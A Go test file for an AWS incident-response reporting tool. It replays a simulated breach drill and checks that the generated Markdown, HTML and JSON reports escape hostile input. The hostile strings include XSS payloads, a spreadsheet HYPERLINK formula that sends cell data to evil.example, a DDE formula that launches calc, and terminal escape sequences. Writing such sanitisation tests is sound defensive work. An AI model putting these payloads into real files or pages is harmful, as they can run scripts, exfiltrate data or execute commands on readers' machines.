package report

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/exp/golden"

	"github.com/warroom-ir/warroom/state"
)

// line is one journal line of a test journal.
type line struct {
	at      time.Time
	kind    state.Kind
	payload any
}

// writeJournal writes lines as warroom's writer chains them, at times of
// the test's choosing, so that the journal (and its head hash) is the same
// on every run. Line 1 must be the incident.opened fact.
func writeJournal(t testing.TB, path, id string, lines []line) {
	t.Helper()
	prev := sha256.Sum256([]byte(id))
	var buf []byte
	for i, l := range lines {
		data, err := json.Marshal(l.payload)
		if err != nil {
			t.Fatal(err)
		}
		start := len(buf)
		buf = fmt.Appendf(buf, `{"seq":%d,"at":"%s","by":{"user":"alice","host":"jump1"},"kind":"%s","data":%s,"prev":"%s"}`,
			i+1, l.at.UTC().Format(time.RFC3339Nano), l.kind, data, hex.EncodeToString(prev[:]))
		prev = sha256.Sum256(buf[start:])
		buf = append(buf, '\n')
	}
	if err := os.WriteFile(path, buf, 0o600); err != nil {
		t.Fatal(err)
	}
}

// strs are the strings of a drill: plain ones, or hostile ones that try
// markup, formula and terminal injection in every field.
type strs struct {
	user, backdoor, agent, title, note, reqID, detail, keyName, tag, reason, errMsg string
}

var plain = strs{
	user: "ci-deploy", backdoor: "svc-backup", agent: "aws-cli/2.15.0", title: "leaked CI key",
	note: "GitHub secret scanning alert at 01:02; paging on-call", reqID: "5f1e0c6e-0000-4a4a-9d9d-123456789abc",
	detail: "key is Inactive", keyName: "backdoor", tag: "web", reason: "found on a public paste site", errMsg: "AccessDenied",
}

// hostile strings: HTML and script, Markdown links and tables, spreadsheet
// formulas, terminal escapes (OSC 52 clipboard, CSI), newlines.
var hostile = strs{
	user:     `<script>alert(1)</script>`,
	backdoor: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
	agent:    "\x1b]52;c;ZXZpbA==\x07aws-cli\x1b[2J",
	title:    "[click](javascript:alert(1)) | *bold* `code`",
	note:     "line1\n| forged | row |\n<img src=x onerror=alert(1)>",
	reqID:    `"><svg onload=alert(1)>`,
	detail:   "@SUM(1+1)*cmd|' /C calc'!A0",
	keyName:  "+1-2 <b>key</b>",
	tag:      "![x](http://evil.example/t.png)",
	reason:   "\u202egnp.exe",
	errMsg:   "-2+3 # heading",
}

const (
	leaked   = "AKIAIOSFODNN7EXAMPLE"
	minted1  = "ASIAQWERTYUIOPASDFGH"
	minted2  = "ASIAZXCVBNMASDFGHJKL"
	backdoor = "AKIABACKDOOR00000001"
	account  = "123456789012"
)

// drill returns the lines of a journal that looks like a drill's: a leaked
// CI key probes, mints a session token, assumes a role, makes a backdoor
// user and key, starts instances and stops the trail; the responder marks
// it, notes, deactivates the key (verified), revokes sessions, terminates
// one instance (the other is left running) and the backdoor key stays.
func drill(s strs) (string, []line) {
	t0 := time.Date(2026, 11, 23, 1, 0, 0, 0, time.UTC)
	id := "wr-20261123-0100-d3ad00"
	userARN := "arn:aws:iam::" + account + ":user/" + s.user
	roleARN := "arn:aws:iam::" + account + ":role/deploy"
	rec := func(i int, at time.Time, name, source, region, key, arn, ip, code string, extra map[string]any) json.RawMessage {
		r := map[string]any{
			"eventVersion": "1.09", "eventID": fmt.Sprintf("%08d-aaaa-4bbb-8ccc-0123456789ab", i),
			"eventTime": at.Format(time.RFC3339), "eventName": name, "eventSource": source, "awsRegion": region,
			"sourceIPAddress": ip, "userAgent": s.agent, "eventType": "AwsApiCall", "recipientAccountId": account,
			"userIdentity": map[string]any{"type": "IAMUser", "arn": arn, "accountId": account, "accessKeyId": key, "userName": s.user},
		}
		if code != "" {
			r["errorCode"], r["errorMessage"] = code, s.errMsg
		}
		for k, v := range extra {
			r[k] = v
		}
		b, _ := json.Marshal(r)
		return b
	}
	creds := func(key string, exp time.Time) map[string]any {
		return map[string]any{"responseElements": map[string]any{"credentials": map[string]any{
			"accessKeyId": key, "expiration": exp.Format("Jan 2, 2006, 3:04:05 PM"), "sessionToken": "REDACTED"}}}
	}
	ip := "203.0.113.7"
	events := []json.RawMessage{
		rec(1, t0.Add(-50*time.Minute), "GetCallerIdentity", "sts.amazonaws.com", "us-east-1", leaked, userARN, ip, "", nil),
		rec(2, t0.Add(-49*time.Minute), "ListUsers", "iam.amazonaws.com", "us-east-1", leaked, userARN, ip, "AccessDenied", nil),
		rec(3, t0.Add(-45*time.Minute), "GetSessionToken", "sts.amazonaws.com", "us-east-1", leaked, userARN, ip, "", creds(minted1, t0.Add(11*time.Hour))),
		rec(4, t0.Add(-44*time.Minute), "AssumeRole", "sts.amazonaws.com", "us-east-1", minted1, userARN, ip, "", func() map[string]any {
			m := creds(minted2, t0.Add(-14*time.Minute))
			m["requestParameters"] = map[string]any{"roleArn": roleARN, "roleSessionName": "x"}
			return m
		}()),
		rec(5, t0.Add(-40*time.Minute), "CreateUser", "iam.amazonaws.com", "us-east-1", minted1, userARN, ip, "", nil),
		rec(6, t0.Add(-39*time.Minute), "CreateAccessKey", "iam.amazonaws.com", "us-east-1", minted1, userARN, ip, "", nil),
		rec(7, t0.Add(-30*time.Minute), "RunInstances", "ec2.amazonaws.com", "eu-west-1", minted2, roleARN, "198.51.100.23", "", map[string]any{
			"responseElements": map[string]any{"instancesSet": map[string]any{"items": []any{
				map[string]any{"instanceId": "i-0attacker0000001"}, map[string]any{"instanceId": "i-0attacker0000002"}}}}}),
		rec(8, t0.Add(-29*time.Minute), "ImportKeyPair", "ec2.amazonaws.com", "us-east-1", minted1, userARN, ip, "", map[string]any{
			"responseElements": map[string]any{"keyName": s.keyName, "keyPairId": "key-0123456789abcdef0"}}),
		rec(9, t0.Add(-20*time.Minute), "StopLogging", "cloudtrail.amazonaws.com", "us-east-1", minted1, userARN, ip, "", nil),
		rec(10, t0.Add(time.Minute), "DescribeInstances", "ec2.amazonaws.com", "eu-west-1", "AKIARESPONDER0000001",
			"arn:aws:iam::"+account+":user/responder", "192.0.2.10", "", map[string]any{"userAgent": "aws-sdk-go-v2/1.47 app/warroom"}),
	}
	inv := state.Inventory{TakenAt: t0.Add(5 * time.Minute), AccountID: account, Since: t0.Add(-time.Hour),
		Users: []state.User{
			{Name: s.user, ARN: userARN, Created: t0.AddDate(0, -6, 0),
				Keys: []state.AccessKey{{ID: leaked, Status: "Active", Created: t0.AddDate(0, -6, 0)}}},
			{Name: s.backdoor, ARN: "arn:aws:iam::" + account + ":user/" + s.backdoor, Created: t0.Add(-40 * time.Minute), New: true,
				Keys: []state.AccessKey{{ID: backdoor, Status: "Active", Created: t0.Add(-39 * time.Minute), New: true}}},
		}}
	after := inv
	after.TakenAt = t0.Add(40 * time.Minute)
	after.Users = []state.User{inv.Users[0], inv.Users[1]}
	after.Users[0].Keys = []state.AccessKey{{ID: leaked, Status: "Inactive", Created: t0.AddDate(0, -6, 0)}}
	lines := []line{
		{t0, state.KindIncidentOpened, state.IncidentOpened{ID: id, Title: s.title, OpenedAt: t0, Host: "jump1", User: "alice", Began: t0.Add(-time.Hour)}},
		{t0, state.KindSessionStarted, state.SessionStarted{Command: "drill", Mode: state.ModeLive, AccountID: account, Alias: "drill", CallerARN: "arn:aws:iam::" + account + ":user/responder", CallerKeyID: "AKIARESPONDER0000001", Drill: true}},
		{t0.Add(time.Second), state.KindRegions, state.Regions{Regions: []state.Region{{Name: "us-east-1", OptInStatus: "opt-in-not-required"}, {Name: "eu-west-1", OptInStatus: "opt-in-not-required"}}}},
		{t0.Add(2 * time.Second), state.KindEvents, state.Events{Source: "sim", Records: events}},
		{t0.Add(5 * time.Minute), state.KindInventory, inv},
		{t0.Add(6 * time.Minute), state.KindSweep, state.Sweep{Region: "eu-west-1", Kind: "ec2:instance", TakenAt: t0.Add(6 * time.Minute), Resources: []state.Resource{
			{ID: "i-0attacker0000001", State: "running", Created: t0.Add(-30 * time.Minute), Attrs: map[string]string{"type": "p3.16xlarge"}, Tags: []state.Tag{{Key: "Name", Value: s.tag}}},
			{ID: "i-0attacker0000002", State: "running", Created: t0.Add(-30 * time.Minute)},
			{ID: "i-0web000000000001", Name: s.tag, State: "running", Created: t0.AddDate(0, -1, 0)},
		}}},
		{t0.Add(6 * time.Minute), state.KindSweep, state.Sweep{Region: "us-east-1", Kind: "ec2:key-pair", TakenAt: t0.Add(6 * time.Minute), Resources: []state.Resource{
			{ID: "key-0123456789abcdef0", Name: s.keyName, Created: t0.Add(-29 * time.Minute)}}}},
		{t0.Add(6 * time.Minute), state.KindSweep, state.Sweep{Region: "ap-southeast-3", Kind: "ec2:instance", TakenAt: t0.Add(6 * time.Minute),
			Error: &state.CallError{Call: "ec2:DescribeInstances", Region: "ap-southeast-3", Class: "denied", Error: s.errMsg}}},
		{t0.Add(10 * time.Minute), state.KindSuspect, state.Suspect{AccessKeyID: leaked, Reason: s.reason}},
		{t0.Add(11 * time.Minute), state.KindNote, state.Note{Text: s.note}},
		{t0.Add(20 * time.Minute), state.KindActionIntent, state.ActionIntent{ActionID: "act-1", Action: "deactivate-key", Target: leaked,
			Plan: []state.Call{{API: "iam:UpdateAccessKey", Params: map[string]string{"UserName": s.user, "AccessKeyId": leaked, "Status": "Inactive"}}}, Undo: "iam:UpdateAccessKey Status=Active"}},
		{t0.Add(20*time.Minute + time.Second), state.KindActionResult, state.ActionResult{ActionID: "act-1", OK: true, Calls: []state.CallResult{{API: "iam:UpdateAccessKey", RequestID: s.reqID}}}},
		{t0.Add(21 * time.Minute), state.KindActionVerify, state.ActionVerify{ActionID: "act-1", Holds: true, Detail: s.detail}},
		{t0.Add(25 * time.Minute), state.KindActionIntent, state.ActionIntent{ActionID: "act-2", Action: "revoke-sessions", Target: userARN,
			Plan: []state.Call{{API: "iam:PutUserPolicy", Params: map[string]string{"UserName": s.user, "PolicyName": "AWSRevokeOlderSessions"}}}}},
		{t0.Add(25*time.Minute + time.Second), state.KindActionResult, state.ActionResult{ActionID: "act-2", OK: true, Calls: []state.CallResult{{API: "iam:PutUserPolicy", RequestID: "0b8e6a2e-1111-4c4c-8e8e-abcdefabcdef"}}}},
		{t0.Add(30 * time.Minute), state.KindActionIntent, state.ActionIntent{ActionID: "act-3", Action: "terminate-instance", Target: "i-0attacker0000001", Region: "eu-west-1",
			Plan: []state.Call{{API: "ec2:TerminateInstances", Region: "eu-west-1", Irreversible: true}}, Undo: "cannot be undone"}},
		{t0.Add(30*time.Minute + 2*time.Second), state.KindActionResult, state.ActionResult{ActionID: "act-3", OK: true, Calls: []state.CallResult{{API: "ec2:TerminateInstances", Region: "eu-west-1", RequestID: "c1d2e3f4-2222-4d4d-9f9f-0123456789ab"}}}},
		{t0.Add(35 * time.Minute), state.KindActionIntent, state.ActionIntent{ActionID: "act-4", Action: "delete-key-pair", Target: "key-0123456789abcdef0", Region: "us-east-1"}},
		{t0.Add(35*time.Minute + time.Second), state.KindActionResult, state.ActionResult{ActionID: "act-4", OK: false, Error: s.errMsg, Calls: []state.CallResult{{API: "ec2:DeleteKeyPair", Region: "us-east-1", RequestID: "d4e5f6a7-3333-4e4e-afaf-0123456789ab", Error: s.errMsg}}}},
		{t0.Add(40 * time.Minute), state.KindInventory, after},
		{t0.Add(41 * time.Minute), state.KindNote, state.Note{Text: "i-0attacker0000002 left running for forensics"}},
	}
	return id, lines
}

// build writes the drill journal, folds it and builds the report.
func build(t *testing.T, s strs) (*Report, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "journal.jsonl")
	id, lines := drill(s)
	writeJournal(t, path, id, lines)
	st, rep, err := state.Replay(path)
	if err != nil || !rep.OK() {
		t.Fatalf("replay: %v %v", err, rep.Problem)
	}
	if len(st.Problems) > 0 {
		t.Fatalf("drill facts did not apply: %+v", st.Problems)
	}
	raw := state.NewRawReader(path)
	t.Cleanup(func() { raw.Close() })
	return Build(st, rep, Options{Raw: raw.Raw}), path
}

func render1(t *testing.T, r *Report, format string) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, r, format); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestGolden renders the drill's report in every format and compares with
// testdata (go test ./report -update rewrites them).
func TestGolden(t *testing.T) {
	r, _ := build(t, plain)
	for _, f := range []string{FormatMarkdown, FormatHTML, FormatJSON} {
		t.Run(f, func(t *testing.T) {
			golden.RequireEqual(t, render1(t, r, f))
		})
	}
}

// TestContent checks what the report must say about the drill, format by
// format independent.
func TestContent(t *testing.T) {
	r, _ := build(t, plain)
	cases := []struct {
		name string
		ok   bool
	}{
		{name: "first attacker event is the leaked key's first call",
			ok: r.Summary.FirstAttackerEvent != nil && r.Summary.FirstAttackerEvent.Name == "GetCallerIdentity" && r.Summary.FirstAttackerEvent.Key == leaked},
		{name: "containment timed from the first event",
			ok: len(r.Summary.Containment) == 4 && r.Summary.Containment[0].SinceFirstEvent == 70*time.Minute+time.Second},
		{name: "family has the leaked key and both minted keys",
			ok: len(r.Family) == 3 && r.Family[0].Key == leaked && r.Family[1].Key == minted1 && r.Family[2].Key == minted2 && r.Family[2].Depth == 2},
		{name: "leaked key Inactive, closed", ok: r.Family[0].Status == "Inactive" && !r.Family[0].Open},
		{name: "first session revoked", ok: !r.Family[1].Open && strings.Contains(r.Family[1].Fate, "sessions revoked")},
		{name: "role session expired", ok: r.Family[2].Status == "expired"},
		{name: "StopLogging credited to its Sigma rule",
			ok: len(r.Credits) > 0 && r.Credits[0].Rule == "AWS CloudTrail Important Change" && r.Credits[0].Authors == "vitaliy0x1" && r.Credits[0].License != ""},
		{name: "request ids kept", ok: r.Actions[0].Calls[0].RequestID == plain.reqID},
		{name: "open: backdoor key, instance left running, failed action", ok: fmt.Sprint(openIDs(r)) == "[AKIABACKDOOR00000001 i-0attacker0000002 act-4]"},
		{name: "terminated instance shows what was done", ok: strings.Contains(fmt.Sprint(r.Regions), "terminate-instance: done")},
		{name: "attacker instance tied to the minted key", ok: r.Regions[1].Name == "eu-west-1" && r.Regions[1].Resources[0].Suspect && strings.Contains(r.Regions[1].Resources[0].Creator, minted2)},
		{name: "head hash and verification", ok: r.Journal.Verified && len(r.Journal.Head) == 64 && r.Journal.Entries == 21},
	}
	for _, c := range cases {
		if !c.ok {
			t.Errorf("%s: no", c.name)
		}
	}
}

func openIDs(r *Report) []string {
	var out []string
	for _, o := range r.Open {
		out = append(out, o.ID)
	}
	return out
}

// TestHostile builds the drill with hostile strings in every field that
// comes from CloudTrail, AWS or a responder, and checks that no markup,
// formula or escape gets through in any format.
func TestHostile(t *testing.T) {
	r, _ := build(t, hostile)
	md, page, js := render1(t, r, FormatMarkdown), render1(t, r, FormatHTML), render1(t, r, FormatJSON)

	t.Run("html", func(t *testing.T) {
		for _, bad := range []string{"<script", "<img", "<svg", "<b>", "\x1b", "\u202e", `"><`} {
			if strings.Contains(page, bad) {
				t.Errorf("HTML holds %q", bad)
			}
		}
		// The escaped forms are there: nothing was dropped.
		for _, want := range []string{"&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "&#34;&gt;&lt;svg onload=alert(1)&gt;"} {
			if !strings.Contains(page, want) {
				t.Errorf("HTML lacks the escaped %q", want)
			}
		}
	})
	t.Run("markdown", func(t *testing.T) {
		for _, bad := range []string{"<script", "<img", "<svg", "<b>", "](", "\x1b", "\u202e", "`code`", "*bold*"} {
			// A backslash before markup makes it text.
			if strings.Contains(strings.ReplaceAll(md, "\\"+bad[:1], ""), bad) {
				t.Errorf("Markdown holds %q unescaped", bad)
			}
		}
		if !strings.Contains(md, `\<script\>alert\(1\)\</script\>`) {
			t.Error("Markdown lacks the escaped script tag: was it dropped?")
		}
		for i, l := range strings.Split(md, "\n") {
			if !strings.HasPrefix(l, "|") {
				continue
			}
			cells := splitCells(l)
			if len(cells) != len(splitCells(headerOf(md, i))) {
				t.Errorf("line %d has %d cells, its table's header %d: a forged column or row: %s", i+1, len(cells), len(splitCells(headerOf(md, i))), l)
			}
			for _, c := range cells {
				c = strings.TrimSpace(c)
				if c != "" && strings.ContainsRune("=+-@", rune(c[0])) && c != "—" && !strings.HasPrefix(c, "---") {
					t.Errorf("line %d: cell %q starts a formula", i+1, c)
				}
			}
		}
	})
	t.Run("json", func(t *testing.T) {
		if strings.Contains(js, "\x1b") || strings.Contains(js, "<script") {
			t.Error("JSON holds a raw escape or tag")
		}
		var back Report
		if err := json.Unmarshal([]byte(js), &back); err != nil {
			t.Fatal(err)
		}
		if back.Notes[0].Text != hostile.note || back.Actions[0].Calls[0].RequestID != hostile.reqID {
			t.Errorf("JSON does not carry the strings as they were: %q", back.Notes[0].Text)
		}
	})
}

// splitCells splits a Markdown table row on unescaped pipes.
func splitCells(l string) []string {
	var cells []string
	var cur strings.Builder
	for i := 0; i < len(l); i++ {
		switch {
		case l[i] == '\\' && i+1 < len(l):
			cur.WriteByte(l[i])
			cur.WriteByte(l[i+1])
			i++
		case l[i] == '|':
			cells = append(cells, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(l[i])
		}
	}
	return append(cells, cur.String())
}

// headerOf returns the header row of the table holding line i.
func headerOf(md string, i int) string {
	ls := strings.Split(md, "\n")
	for i > 0 && strings.HasPrefix(ls[i-1], "|") {
		i--
	}
	return ls[i]
}

// TestFormats checks the format names.
func TestFormats(t *testing.T) {
	r, _ := build(t, plain)
	for _, c := range []struct {
		format string
		ok     bool
	}{{"md", true}, {"markdown", true}, {"html", true}, {"json", true}, {"csv", false}, {"", false}} {
		err := Write(&bytes.Buffer{}, r, c.format)
		if (err == nil) != c.ok {
			t.Errorf("format %q: error %v", c.format, err)
		}
	}
}
